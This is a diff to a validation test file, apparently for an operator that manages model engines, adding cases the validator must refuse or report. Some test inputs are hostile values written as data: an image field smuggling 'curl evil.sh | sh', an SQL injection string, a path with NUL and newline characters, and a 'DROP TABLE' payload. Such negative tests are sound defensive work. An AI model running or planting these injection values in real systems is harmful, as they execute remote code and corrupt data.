@@ -308,6 +308,26 @@ REFUSED = [
         ("metadata.labels", "a valid label must be an empty string or consist of alphanumeric"),
     ),
     Refused(
+        "engine-source-path-with-a-nul-and-a-newline",
+        sourced_engine("e", {"kind": "hostPath", "path": "/models/m\x00\n--rm.gguf"}),
+        ("spec.model.source.path", "should match"),
+    ),
+    Refused(
+        "engine-image-reference-injection",
+        sourced_engine("e", {"kind": "image", "image": "x; curl evil.sh | sh", "path": "/m"}),
+        ("spec.model.source.image", "should match"),
+    ),
+    Refused(
+        "mind-class-name-injection",
+        bad_mind(className="gold' OR '1'='1"),
+        ("spec.className", "should match"),
+    ),
+    Refused(
+        "engine-unicode-name",
+        good_engine("modèle"),
+        ("metadata.name", "Invalid value"),
+    ),
+    Refused(
         "mind-engine-name-injection",
         bad_mind(engine="coder; DROP TABLE minds"),
         ("spec.engine", "should match"),
@@ -439,6 +459,22 @@ REPORTED = [
         "False",
         "InvalidSpec",
         ("spec.model.facts.kvBytesPerTokenPerLayer:", "entry [1] is -2"),
+    ),
+    Reported(
+        "engine-window-layer-beyond-the-model",
+        [
+            bad_engine(
+                "spec.model.facts",
+                {**FACTS, "slidingWindow": 256, "slidingWindowLayers": [1, 99]},
+                "windowed",
+            )
+        ],
+        "engine",
+        "windowed",
+        "Planned",
+        "False",
+        "InvalidSpec",
+        ("spec.model.facts:", "slidingWindowLayers lists layer 99 but the model has 4"),
     ),
     Reported(
         "engine-nobody-can-place",
